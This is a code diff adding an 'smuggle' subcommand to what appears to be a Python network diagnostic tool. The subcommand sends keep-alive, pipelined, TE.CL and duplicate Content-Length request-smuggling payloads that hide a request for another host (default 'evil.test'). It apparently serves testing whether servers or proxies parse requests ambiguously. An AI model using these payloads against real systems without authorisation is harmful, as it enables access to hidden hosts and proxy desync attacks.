@@ -308,24 +308,69 @@ def probe_pipeline(args):
         extra = f"Content-Length: {len(body)}\r\n" if body is not None else ""
         requests += (f"{method} {url} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n"
                      f"{extra}\r\n").encode() + (body or b"")
+    return exchange((phost, int(pport)), [requests])
+
+
+def exchange(address, phases):
+    """Sends each phase on one connection to address, the next once the responses so far
+    number one per phase sent; after the last, reads until the connection ends. The
+    responses' statuses and bodies, and whether the other side closed (false: still open
+    after TIMEOUT_S)."""
     stage = "connect"
     data, closed = b"", False
     try:
-        with socket.create_connection((phost, int(pport)), timeout=TIMEOUT_S) as sock:
-            stage = "request"
-            sock.sendall(requests)
-            stage = "response"
-            while len(data) < 65536:
-                chunk = sock.recv(4096)
-                if not chunk:
-                    closed = True
-                    break
-                data += chunk
+        with socket.create_connection(address, timeout=TIMEOUT_S) as sock:
+            for i, phase in enumerate(phases):
+                stage = f"request{i}"
+                sock.sendall(phase)
+                last = i == len(phases) - 1
+                while not closed and len(data) < 65536:
+                    if not last and len(split_responses(data)[0]) > i:
+                        break
+                    chunk = sock.recv(4096)
+                    closed = not chunk
+                    data += chunk
     except OSError as e:
         statuses, bodies = split_responses(data)
         return dict(describe(e, stage=stage), statuses=statuses, bodies=bodies, closed=closed)
     statuses, bodies = split_responses(data)
     return {"statuses": statuses, "bodies": bodies, "closed": closed}
+
+
+def smuggle_phases(front, other, scenario):
+    """The bytes of probe_smuggle's scenario, in phases: each but the last is answered before
+    the next is sent."""
+    def get(host, path, close=False):
+        return (f"GET {path} HTTP/1.1\r\nHost: {host}\r\n"
+                + ("Connection: close\r\n" if close else "") + "\r\n").encode()
+    hidden = get(other, "/hidden", close=True)
+    if scenario == "same":
+        return [get(front, "/first"), get(front, "/second", close=True)]
+    if scenario == "keepalive":
+        return [get(front, "/first"), get(other, "/second", close=True)]
+    if scenario == "pipeline":
+        return [get(front, "/first") + get(other, "/second", close=True)]
+    if scenario == "te_cl":
+        # A parser that follows Transfer-Encoding reads one chunk holding `hidden`; the
+        # server follows Content-Length, reads the size line only and then `hidden` as a request.
+        size_line = f"{len(hidden):x}\r\n".encode()
+        return [(f"POST /first HTTP/1.1\r\nHost: {front}\r\nContent-Length: {len(size_line)}\r\n"
+                 "Transfer-Encoding: chunked\r\n\r\n").encode() + size_line + hidden
+                + b"\r\n0\r\n\r\n"]
+    # cl_cl: the server takes the first Content-Length (0), a parser taking the last reads
+    # `hidden` as the body.
+    return [(f"POST /first HTTP/1.1\r\nHost: {front}\r\nContent-Length: 0\r\n"
+             f"Content-Length: {len(hidden)}\r\n\r\n").encode() + hidden]
+
+
+def probe_smuggle(args):
+    """Requests on one plain-HTTP connection to args.addr, the first for --host (default addr),
+    a later or hidden one for --other: keep-alive (after the first answer), pipelined, behind
+    Transfer-Encoding with a Content-Length, behind a second Content-Length, or "same" (two
+    keep-alive requests to the first host). Reports the statuses and bodies that came back and
+    whether the other side closed."""
+    phases = smuggle_phases(args.host or args.addr, args.other, args.scenario)
+    return exchange((args.addr, args.port), phases)
 
 
 def probe_banner(args):
@@ -597,6 +642,12 @@ def main():
     p.add_argument("urls", nargs="+")
     p.add_argument("--proxy", help="host:port instead of $http_proxy's")
     p.add_argument("--data", help="the first request is a POST of this text")
+    p = sub.add_parser("smuggle")
+    p.add_argument("addr")
+    p.add_argument("scenario", choices=["same", "keepalive", "pipeline", "te_cl", "cl_cl"])
+    p.add_argument("--port", type=int, default=80)
+    p.add_argument("--host", help="the first request's Host (default: addr)")
+    p.add_argument("--other", default="evil.test", help="the later or hidden request's Host")
     p = sub.add_parser("dns")
     p.add_argument("queries", nargs="+")
     p.add_argument("--tcp", action="store_true")
